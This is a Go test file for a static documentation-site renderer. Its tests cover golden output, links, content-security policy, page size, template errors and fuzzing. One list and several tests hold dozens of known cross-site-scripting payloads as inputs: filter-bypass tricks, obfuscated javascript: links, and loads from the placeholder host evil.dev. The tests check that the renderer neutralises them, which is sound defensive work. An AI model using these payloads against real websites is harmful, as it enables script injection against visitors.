package render

import (
	"bytes"
	"compress/gzip"
	"flag"
	"fmt"
	"net/url"
	"os"
	"path"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	nethtml "golang.org/x/net/html"

	"github.com/google/go-cmp/cmp"

	"handbook/content"
	"handbook/content/record"
	"handbook/render/look"
	"handbook/render/place"
)

var update = flag.Bool("update", false, "write the expected files anew")

// golden compares with a reviewed file.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := "testdata/golden/" + name
	if *update {
		writeFile(t, file, got)
		return
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s: -want +got (go test ./render -update writes it anew)\n%s", name, diff)
	}
}

var articleRE = regexp.MustCompile(`(?s)<article>.*</article>`)

func TestGolden(t *testing.T) {
	files, err := Site(sampleSite(t), sampleFresh, Options{Version: "test"})
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"labs/04-flask", "labs/05-volumes", "labs/06-networks", "labs/07-compose", "guides/features"} {
		article := articleRE.Find(files[name+"/index.html"])
		golden(t, path.Base(name)+".html", append(article, '\n'))
	}
	names := strings.Split(regexp.MustCompile(`\.[0-9a-f]{8}\.`).ReplaceAllString(strings.Join(files.Names(), "\n"), ".DIGEST."), "\n")
	slices.Sort(names) // not in the order of digests
	golden(t, "names.txt", []byte(strings.Join(names, "\n")+"\n"))
	for _, name := range []string{"sitemap.xml", "llms.txt", "labs/04-flask.md", "labs/04-flask/lab.sh"} {
		golden(t, path.Base(name), files[name])
	}
}

// TestDeterministic renders with one worker and with many.
func TestDeterministic(t *testing.T) {
	first, err := Site(sampleSite(t), sampleFresh, Options{Workers: 1})
	if err != nil {
		t.Fatal(err)
	}
	for range 5 {
		again, err := Site(sampleSite(t), sampleFresh, Options{Workers: 4 * runtime.NumCPU()})
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(first, again); diff != "" {
			t.Fatal(diff)
		}
	}
}

// TestPageAlone renders single pages, as a preview does.
func TestPageAlone(t *testing.T) {
	site := sampleSite(t)
	all, err := Site(site, sampleFresh, Options{})
	if err != nil {
		t.Fatal(err)
	}
	r, err := New(site, sampleFresh, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range site.Pages {
		files, err := r.Page(p)
		if err != nil {
			t.Fatal(err)
		}
		for name, b := range files {
			if !bytes.Equal(b, all[name]) {
				t.Errorf("%s differs from the one rendered with the site", name)
			}
		}
	}
}

// TestLinksLead follows every link of every page to a file and an element.
func TestLinksLead(t *testing.T) {
	files, err := Site(sampleSite(t), sampleFresh, Options{})
	if err != nil {
		t.Fatal(err)
	}
	linksLead(t, files)
}

func linksLead(t *testing.T, files Files) {
	t.Helper()
	ids := make(map[string]map[string]bool)
	for name, b := range files {
		if path.Ext(name) == ".html" {
			ids[name] = make(map[string]bool)
			eachTag(b, func(tag string, attrs map[string]string) {
				if id := attrs["id"]; id != "" {
					if ids[name][id] {
						t.Errorf("%s: id %q twice", name, id)
					}
					ids[name][id] = true
				}
			})
		}
	}
	for name, b := range files {
		if path.Ext(name) != ".html" || name == "404.html" { // that one is shown anywhere, its links start at the root
			continue
		}
		eachTag(b, func(tag string, attrs map[string]string) {
			for _, key := range []string{"href", "src"} {
				to, ok := attrs[key]
				if !ok || tag == "link" && attrs["rel"] == "canonical" {
					continue
				}
				u, err := url.Parse(to)
				if err != nil {
					t.Errorf("%s: %q: %v", name, to, err)
					continue
				}
				if u.Scheme != "" {
					if tag != "a" && u.Scheme != "data" {
						t.Errorf("%s: <%s> loads %q", name, tag, to)
					}
					continue
				}
				target := name
				if u.Path != "" {
					target = path.Join(path.Dir(name), u.Path)
				}
				if _, ok := files[target]; !ok {
					t.Errorf("%s: %q leads nowhere", name, to)
				}
				if u.Fragment != "" && !ids[target][u.Fragment] {
					t.Errorf("%s: %q has no target", name, to)
				}
			}
		})
	}
}

func eachTag(page []byte, f func(tag string, attrs map[string]string)) {
	z := nethtml.NewTokenizer(bytes.NewReader(page))
	for {
		switch z.Next() {
		case nethtml.ErrorToken:
			return
		case nethtml.StartTagToken, nethtml.SelfClosingTagToken:
			t := z.Token()
			attrs := make(map[string]string)
			for _, a := range t.Attr {
				attrs[a.Key] = a.Val
			}
			f(t.Data, attrs)
		}
	}
}

// TestPolicy checks that no page has what its own policy forbids.
func TestPolicy(t *testing.T) {
	site := sampleSite(t)
	site.Page("labs/04-flask.md").Record.Snippets[1].Commands[0].Output = []string{"\x1b[38;5;208mapp.py\x1b[0m"}
	files, err := Site(site, sampleFresh, Options{})
	if err != nil {
		t.Fatal(err)
	}
	scriptRE := regexp.MustCompile(`(?s)<script>(.*?)</script>`)
	styleRE := regexp.MustCompile(`(?s)<style>(.*?)</style>`)
	styles := 0
	for name, b := range files {
		if path.Ext(name) != ".html" || strings.HasPrefix(name, "old/") {
			continue
		}
		policy := ""
		eachTag(b, func(tag string, attrs map[string]string) {
			if attrs["http-equiv"] == "Content-Security-Policy" {
				policy = attrs["content"]
			}
			for key := range attrs {
				if key == "style" || strings.HasPrefix(key, "on") {
					t.Errorf("%s: <%s %s>", name, tag, key)
				}
			}
		})
		for _, m := range scriptRE.FindAllSubmatch(b, -1) {
			if !strings.Contains(policy, look.Hash(string(m[1]))) {
				t.Errorf("%s: script %q is not in the policy", name, m[1])
			}
		}
		for _, m := range styleRE.FindAllSubmatch(b, -1) {
			styles++
			if !strings.Contains(policy, look.Hash(string(m[1]))) {
				t.Errorf("%s: style %q is not in the policy %q", name, m[1], policy)
			}
		}
	}
	if styles != 2 { // the lab, and the page to print everything
		t.Errorf("%d pages with a style of their own, want 2", styles)
	}
}

// TestWeight keeps pages light: compressed sizes that readers wait for.
func TestWeight(t *testing.T) {
	files, err := Site(sampleSite(t), sampleFresh, Options{})
	if err != nil {
		t.Fatal(err)
	}
	limits := map[string]int{".css": 12 << 10, ".js": 10 << 10, ".html": 15 << 10}
	for name, b := range files {
		var z bytes.Buffer
		w := gzip.NewWriter(&z)
		w.Write(b)
		w.Close()
		if limit := limits[path.Ext(name)]; limit > 0 && z.Len() > limit {
			t.Errorf("%s: %d bytes compressed, want at most %d", name, z.Len(), limit)
		}
	}
}

const hostile = `"><script>alert(1)</script>`

// TestEscapes puts markup wherever text comes from.
func TestEscapes(t *testing.T) {
	site := load(t, map[string]string{
		"handbook.yaml": "title: '" + hostile + "'\ndescription: '" + hostile + "'\nnav: [{title: '" + hostile + "', url: lab.md}]\n",
		"lab.md": "---\ntitle: '" + hostile + "'\ndescription: '" + hostile + "'\nlab: {hub: student}\n---\n\n" +
			"## `" + hostile + "`\n\n```bash title='<script>'\necho x\n```\n\n" +
			"```html file=\"<script>.html\" tab=\"<script>\"\n" + hostile + "\n```\n\n" +
			"[x](y.txt \"<script>\") ![<script>](y.txt '<script>')\n\n```bash skip=\"<script>\"\n" + hostile + "\n```\n\n" +
			"[1 B](size:<script>)\n\n```image-sizes\n<script>\n```\n",
		"y.txt":             "",
		"<script>/index.md": "# In a folder",
	})
	p := site.Page("lab.md")
	p.Record = &content.Record{Format: record.Format, Page: hostile, Results: content.Results{Digest: hostile,
		Machine: content.RecordMachine{Image: hostile, Engine: hostile, Storage: hostile, Platform: hostile},
		Bases:   []content.Base{{Image: hostile, Digest: hostile, From: hostile, Note: hostile}},
		Images:  []content.Image{{Ref: "<script>:latest", Unpacked: 1, Layers: []content.Layer{{Instruction: hostile}}}}}}
	for _, s := range p.Tree().Snippets {
		result := content.SnippetResult{Number: s.Number, Kind: s.Role.String(), Verdict: content.Passed}
		for _, c := range s.Commands {
			result.Commands = append(result.Commands, content.CommandResult{Text: c.Text, Output: []string{hostile, "\x1b[1m" + hostile}})
		}
		p.Record.Snippets = append(p.Record.Snippets, result)
	}
	files, err := Site(site, verified(site), Options{Version: hostile})
	if err != nil {
		t.Fatal(err)
	}
	for name, b := range files {
		if path.Ext(name) != ".html" {
			continue
		}
		scripts := 0
		eachTag(b, func(tag string, attrs map[string]string) {
			if tag == "script" {
				scripts++
			}
		})
		if scripts != 2 { // the theme's own
			t.Errorf("%s: %d scripts, want 2", name, scripts)
		}
	}
}

func TestRawHTML(t *testing.T) {
	for _, test := range []struct{ in, want string }{
		{"a <kbd>Ctrl</kbd> b", "<p>a <kbd>Ctrl</kbd> b</p>"},
		{"H<sub>2</sub>O", "<p>H<sub>2</sub>O</p>"},
		{"<SUB>x</SUB>", "<p><sub>x</sub></p>"},
		{"a<br/>b", "<p>a<br/>b</p>"},
		{"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
		{"a <ScRipt>alert(1)</sCript>", "<p>a &lt;ScRipt&gt;alert(1)&lt;/sCript&gt;</p>"},
		{"<style>p{}</style>", "&lt;style&gt;p{}&lt;/style&gt;"},
		{"<iframe src=x></iframe>", "&lt;iframe src=x&gt;&lt;/iframe&gt;"},
		{`<p onclick="x()" style="color:red" class="y" title="t">z</p>`, `<p title="t">z</p>`},
		{`<a href="javascript:x">y</a>`, "content/p.md:1:10: link to \"javascript:x\": scheme \"javascript\" is not allowed"},
		{`<div id="hb-main">x</div>`, "<div>x</div>"},
		{"<!-- a comment -->\n\ntext", "<p>text</p>"},
		{"</div></main></body>text", "&lt;/main&gt;&lt;/body&gt;text"},
		{"<div>\n\nleft open", "<div>\n<p>left open</p>\n</div>"},
		{"<details>\n<summary>S</summary>\n\n*in*\n\n</details>", "<details>\n<summary>S</summary>\n<p><em>in</em></p>\n</details>"},
		{"<details open><summary>S</summary>x</details>", `<details open=""><summary>S</summary>x</details>`},
		{"<title>x\n\n**bold**", "&lt;title&gt;x\n<p><strong>bold</strong></p>"},
		{"&lt;script&gt; &amp;", "<p>&lt;script&gt; &amp;</p>"},
		{"<b>&lt;script&gt;</b>", "<p><b>&lt;script&gt;</b></p>"},
		{`<b name="body" id="x">y</b> <a name="z">z</a>`, `<p><b id="x">y</b> <a name="z">z</a></p>`},
	} {
		r, err := New(load(t, map[string]string{"p.md": test.in}), nil, Options{})
		if err != nil {
			t.Fatal(err)
		}
		got := ""
		if d, err := r.docs.of(r.targets.Pages[0]); err != nil {
			got = err.Error()
		} else {
			got = strings.TrimSpace(string(d.Body))
		}
		if diff := cmp.Diff(test.want, got); diff != "" {
			t.Errorf("%s: -want +got\n%s", test.in, diff)
		}
	}
}

// hostileHTML are ways in which markup has got past filters before, from
// OWASP's and others' lists.
var hostileHTML = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.dev/x.js></SCRIPT>`, `<script/x>alert(1)</script>`, `<scr<script>ipt>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `<img src="x"onerror="alert(1)">`, `<img/src=x/onerror=alert(1)>`, `<img src=x onerror=alert(1)//`,
	`<IMG """><SCRIPT>alert(1)</SCRIPT>">`, `<img src=javascript:alert(1)>`, `<img src="data:image/svg+xml;base64,PHN2Zy8+">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)">x</a></svg>`, `<svg><animate onbegin=alert(1)>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="x.swf">`, `<embed src=x>`, `<base href="//evil.dev/">`,
	`<link rel=stylesheet href=//evil.dev/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.dev">`, `<form action=//evil.dev><input name=x><button formaction=javascript:alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="jav&#x09;ascript:alert(1)">x</a>`, `<a href="java\nscript:alert(1)">x</a>`,
	`<a href="&#106;avascript&colon;alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="\x01javascript:alert(1)">x</a>`, `[x](javascript:alert(1))`, `[x](<java script:alert(1)>)`, `[x](JAVASCRIPT:alert(1))`, `[x](&#106;avascript:alert(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`![x](javascript:alert(1))`, `![x](data:image/svg+xml,<svg/onload=alert(1)>)`, `![x" onerror="alert(1)](y)`, `[x](https://a.dev "t\" onmouseover=\"alert(1)")`, `<javascript:alert(1)>`, `<https://a.dev/"onmouseover="alert(1)>`,
	`<p style="background:url(//evil.dev/x)">x</p>`, `<style>@import '//evil.dev/x.css';</style>`, `<div onclick="alert(1)" id="hb-main" class="run">x</div>`, `<details ontoggle=alert(1) open>x</details>`,
	`</main></body></html><script>alert(1)</script>`, `<plaintext>`, `<xmp><script>alert(1)</script></xmp>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`, `<!-- --!><img src=x onerror=alert(1)>`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml ?><script>alert(1)</script>`, `<!DOCTYPE x [<!ENTITY y "z">]>`,
	`<img name=body src=x>`, `<a id=location>x</a>`, `<template><script>alert(1)</script></template>`, `<video src=//evil.dev/x autoplay>`, `<audio src=x onerror=alert(1)>`, `<source srcset="//evil.dev/x.png 1x, y 2x">`,
	`<table background="//evil.dev/x"><tr><td background=x>y</table>`, `<q cite="javascript:alert(1)">x</q>`, `<input type=image src=//evil.dev/x>`, `<marquee onstart=alert(1)>`, `<b/onclick=alert(1)>x`, "<b\x00onclick=alert(1)>x",
	"# <script>alert(1)</script>", "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", "[^1]\n\n[^1]: <script>alert(1)</script>", "```html title=\"<script>alert(1)</script>\"\n<script>alert(1)</script>\n```",
}

// TestHostileHTML puts each through all that is made of a page. What is left
// must not run, load, or leave the site; what is refused as an error is well.
func TestHostileHTML(t *testing.T) {
	rendered := 0
	for _, in := range hostileHTML {
		site, err := content.Load(fstest.MapFS{"index.md": {Data: []byte("# Home\n")}, "p.md": {Data: []byte("Text.\n\n" + in + "\n\nMore, " + in + "\n")}}, "content")
		if err != nil {
			continue
		}
		files, err := Site(site, verified(site), Options{BaseURL: "https://example.org"})
		if err != nil {
			continue
		}
		rendered++
		for _, name := range []string{"p/index.html", "print/index.html"} {
			checkHarmless(t, name, in, files[name])
		}
	}
	if rendered < len(hostileHTML)/2 {
		t.Errorf("only %d of %d are rendered at all", rendered, len(hostileHTML))
	}
}

// checkHarmless fails if a page runs, loads or leads to what a text in it may be
// made for. own are elements and ids that handbook itself makes of it.
func checkHarmless(t *testing.T, name, in string, page []byte, own ...string) {
	t.Helper()
	const loads = " img source iframe script link embed object video audio input "
	scripts := 0
	var walk func(n *nethtml.Node, prose bool)
	walk = func(n *nethtml.Node, prose bool) {
		if n.Type == nethtml.ElementNode {
			for _, a := range n.Attr {
				prose = prose || a.Key == "class" && a.Val == "prose"
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc" || a.Key == "formaction" || a.Key == "background" {
					t.Errorf("%s: %q leaves <%s %s>", name, in, n.Data, a.Key)
				}
				scheme, _, _ := strings.Cut(strings.ToLower(strings.Map(func(r rune) rune {
					if r <= ' ' {
						return -1
					}
					return r
				}, a.Val)), ":")
				if (a.Key == "href" || a.Key == "src" || a.Key == "srcset" || a.Key == "xlink:href") && (scheme == "javascript" || scheme == "vbscript" || scheme == "data") {
					t.Errorf("%s: %q leaves <%s %s=%q>", name, in, n.Data, a.Key, a.Val)
				}
				if strings.Contains(loads, " "+n.Data+" ") && strings.Contains(a.Val, "//evil") {
					t.Errorf("%s: %q loads %q", name, in, a.Val)
				}
				if prose && n.Data != "section" && a.Key == "id" && !slices.Contains(own, "id") && strings.HasPrefix(a.Val, "hb-") && !strings.HasPrefix(a.Val, "hb-s") {
					t.Errorf("%s: %q takes the id %q", name, in, a.Val)
				}
			}
			switch n.Data {
			case "script":
				scripts++
			case "iframe", "object", "embed", "base", "form", "svg", "math", "style", "template", "plaintext", "noscript", "textarea":
				if prose && !slices.Contains(own, n.Data) {
					t.Errorf("%s: %q leaves <%s>", name, in, n.Data)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c, prose)
		}
	}
	doc, err := nethtml.Parse(bytes.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	walk(doc, false)
	if scripts != 2 {
		t.Errorf("%s: %q: %d scripts, want the theme's 2", name, in, scripts)
	}
}

// TestUnsafeHTML lets through what the site's settings let through.
func TestUnsafeHTML(t *testing.T) {
	const raw = "<div style=\"color:red\" onclick='x()'>a</div>\n<script>if (1 < 2) alert(\"&\")</script>\n"
	for _, settings := range []string{"html: unsafe", "html: github", ""} {
		site := load(t, map[string]string{"handbook.yaml": settings, "index.md": "# Plain", "a/p.md": raw + "\n<iframe src=\"demo.html\"></iframe> <a href=\"q.md#x\">q</a>\n",
			"a/demo.html": "demo", "a/q.md": "## X"})
		files, err := Site(site, verified(site), Options{})
		if err != nil {
			t.Fatal(err)
		}
		page, plain := string(files["a/p/index.html"]), string(files["index.html"])
		unsafe := settings == "html: unsafe"
		if strings.Contains(page, raw) != unsafe || strings.Contains(page, `<iframe src="../demo.html"></iframe>`) != unsafe {
			t.Errorf("%s: %s", settings, page)
		}
		if !strings.Contains(page, `<a href="../q/index.html#x">q</a>`) {
			t.Errorf("%s: the link is not resolved", settings)
		}
		if strings.Contains(page, "Content-Security-Policy") == unsafe || !strings.Contains(plain, "Content-Security-Policy") {
			t.Errorf("%s: policies", settings)
		}
	}
	_, err := Site(load(t, map[string]string{"handbook.yaml": "html: unsafe", "p.md": "<iframe src=\"no.html\"></iframe>"}), nil, Options{})
	if want := `content/p.md:1:14: link to "no.html": no such page or file`; err == nil || err.Error() != want {
		t.Errorf("%v, want %s", err, want)
	}
}

func TestOwnTheme(t *testing.T) {
	site := load(t, map[string]string{"index.md": "# Hello"})
	own := fstest.MapFS{
		"footer.html":         {Data: []byte("<footer>Ours {{.Site.Title}}</footer>")},
		"assets/handbook.css": {Data: []byte("body{color:red}")},
		"assets/logo.svg":     {Data: []byte("<svg/>")},
	}
	files, err := Site(site, verified(site), Options{Theme: own})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(files["index.html"], []byte("<footer>Ours Handbook</footer>")) {
		t.Error("the own footer is not used")
	}
	var css []byte
	logo := false
	for name, b := range files {
		if strings.HasPrefix(name, "assets/handbook.") && path.Ext(name) == ".css" {
			css = b
		}
		logo = logo || strings.HasPrefix(name, "assets/logo.")
	}
	if string(css) != "body{color:red}" || !logo {
		t.Errorf("own assets are not published: %q, %v", css, logo)
	}
}

// TestThemeFiles checks that style sheets find what they load, under the names
// that it is published under, however one loads another.
func TestThemeFiles(t *testing.T) {
	site := load(t, map[string]string{"index.md": "# Hello"})
	render := func(font string, preview bool) Files {
		files, err := Site(site, verified(site), Options{Preview: preview, Theme: fstest.MapFS{
			"footer.html":        {Data: []byte(`<link href="{{.Asset "css/a.css"}}"><script src="{{.Asset "bad.js"}}"></script>`)},
			"assets/css/a.css":   {Data: []byte("@import 'b.css';\n/* a comment */\n@font-face{src: url(\"../f x.woff2\") , url(none.woff2), url(data:x)}\n")},
			"assets/css/b.css":   {Data: []byte("@import \"a.css\"; p { background: url( ../f.woff2?v#i ) }")},
			"assets/f.woff2":     {Data: []byte(font)},
			"assets/bad.js":      {Data: []byte("let let = {{{ ;")},
			"assets/fine.js":     {Data: []byte("const first = 1\nfunction f() { return first + `a ${first} b` }\n")},
			"assets/ignored/x.y": {Data: []byte("y")},
		}})
		if err != nil {
			t.Fatal(err)
		}
		return files
	}
	published := func(files Files, stem string) (name, text string) {
		t.Helper()
		for name, b := range files {
			if strings.HasPrefix(name, "assets/"+stem+".") && !strings.Contains(strings.TrimPrefix(name, "assets/"+stem+"."), "/") {
				return name, string(b)
			}
		}
		t.Fatalf("no %s in %q", stem, files.Names())
		return "", ""
	}
	files := render("font", false)
	_, a := published(files, "css/a")
	bName, b := published(files, "css/b")
	font, _ := published(files, "f")
	if !strings.Contains(a, path.Base(bName)) || strings.Contains(a, "comment") || !strings.Contains(a, "none.woff2") {
		t.Errorf("a.css: %s", a)
	}
	if !strings.Contains(b, "../"+path.Base(font)+"?v#i") {
		t.Errorf("b.css: %s", b)
	}
	if _, js := published(files, "bad"); js != "let let = {{{ ;" {
		t.Errorf("what can't be read is not published as it is: %s", js)
	}
	if _, js := published(files, "fine"); strings.Contains(js, "\n") || !strings.Contains(js, "`a ${") {
		t.Errorf("a script is not made small: %s", js)
	}
	if again, _ := published(render("another font", false), "css/a"); again == "" || files[again] != nil {
		t.Errorf("%s has its old name, but loads another font", again)
	}
	if _, css := published(render("font", true), "css/a"); !strings.Contains(css, "a comment") {
		t.Error("a preview makes assets small")
	}
}

// TestMinified checks that the minifier reads all of the theme.
func TestMinified(t *testing.T) {
	files, err := Site(load(t, map[string]string{"index.md": "# Hello"}), nil, Options{})
	if err != nil {
		t.Fatal(err)
	}
	preview, err := Site(load(t, map[string]string{"index.md": "# Hello"}), nil, Options{Preview: true})
	if err != nil {
		t.Fatal(err)
	}
	size := func(files Files, ext string) (n int) {
		for name, b := range files {
			if strings.HasPrefix(name, "assets/") && path.Ext(name) == ext {
				n += len(b)
			}
		}
		return n
	}
	for _, ext := range []string{".css", ".js"} {
		if small, full := size(files, ext), size(preview, ext); small == 0 || small > full*9/10 {
			t.Errorf("%s: %d bytes of %d are left", ext, small, full)
		}
	}
	if bytes.Contains(files["index.html"], []byte("<script>// ")) {
		t.Error("the script in the page is not made small")
	}
}

func TestTemplateErrors(t *testing.T) {
	for _, test := range []struct{ in, want string }{
		{"<footer>{{.Nothing}}</footer>", `templates/footer.html:1:10: {{.Nothing}}: there is no "Nothing"`},
		{"<footer>{{.Site.Titel}}</footer>", `templates/footer.html:1:15: {{.Site.Titel}}: there is no "Titel" (did you mean "Title"?)`},
		{"line\n{{if}}", "templates/footer.html:2: missing value for if"},
		{"line\n{{if .Title}}", "templates/footer.html:2: the template ends without an {{end}} for its {{if}}, {{with}}, {{range}} or {{define}}"},
		{"{{.Title\n<p>", `templates/footer.html:2: unexpected "<" in operand: an action that begins with {{ ends with }}`},
		{`{{sai "search"}}`, `templates/footer.html:1: there is no function "sai" (did you mean "say"?)`},
		{`{{say "serch"}}`, `templates/footer.html:1:2: {{say "serch"}}: there is no string "serch" (did you mean "search"?) (on index.md)`},
		{`{{.Prev.URL}}`, `templates/footer.html:1:7: {{.Prev.URL}}: not every page has that, so it stands between {{with …}} and {{end}} (on index.md)`},
		{`<a href="x>`, `templates/page.html: the quotation mark of an attribute is never closed, there or in a template that it calls; it ends before "contents\" id=\"hb-contents\" popov" (on index.md)`},
		{`{{.Asset "none.css"}}`, `templates/footer.html:1:2: {{.Asset}}: no asset "none.css" (on index.md)`},
	} {
		_, err := Site(load(t, map[string]string{"index.md": "# Hello"}), nil, Options{Theme: fstest.MapFS{"footer.html": {Data: []byte(test.in)}}})
		got := fmt.Sprint(err)
		if got != test.want {
			t.Errorf("%s:\n%s, want\n%s", test.in, got, test.want)
		}
	}
}

// BenchmarkSite renders 200 pages like the sample lab.
func BenchmarkSite(b *testing.B) {
	source, err := os.ReadFile("testdata/site/labs/04-flask.md")
	if err != nil {
		b.Fatal(err)
	}
	pages := make(map[string]string)
	for i := range 200 {
		// No two pages have the same code.
		pages[fmt.Sprintf("labs/%03d.md", i)] = strings.ReplaceAll(string(source), "flask", fmt.Sprint("flask", i))
	}
	site := load(b, pages)
	b.Run("first", func(b *testing.B) {
		for b.Loop() {
			if _, err := Site(site, verified(site), Options{}); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("again", func(b *testing.B) {
		kept := &Cache{Store: &mapStore{}}
		for b.Loop() {
			if _, err := Site(site, verified(site), Options{Cache: kept}); err != nil {
				b.Fatal(err)
			}
		}
	})
}

// FuzzPage renders any page, as a lab with results too: nothing may panic, and
// a page's HTML must not reach into the frame around it.
func FuzzPage(f *testing.F) {
	for _, name := range []string{"labs/04-flask.md", "labs/07-compose.md", "guides/features.md"} {
		b, err := os.ReadFile("testdata/site/" + name)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(string(b))
	}
	f.Add("---\nlab: {}\n---\n> - ```python annotate\n>   x # (1)\n>   ```\n>   1. y\n\n</div></main><script>")
	f.Fuzz(func(t *testing.T, source string) {
		site, err := content.Load(fstest.MapFS{"p.md": {Data: []byte(source)}}, "content")
		if err != nil {
			return
		}
		p := site.Pages[0]
		if p.Lab != nil {
			recordOf(p, content.CommandResult{Output: []string{source}, Exit: 1, Ready: 1, Cut: 5})
		}
		files, err := Site(site, verified(site), Options{Drafts: true})
		if err != nil {
			return
		}
		ends := 0
		z := nethtml.NewTokenizer(bytes.NewReader(files[place.Of(p)]))
		for {
			kind := z.Next()
			if kind == nethtml.ErrorToken {
				break
			}
			if tag, _ := z.TagName(); kind == nethtml.EndTagToken && string(tag) == "main" {
				ends++
			}
		}
		if ends != 1 {
			t.Fatalf("%d ends of <main>", ends)
		}
	})
}
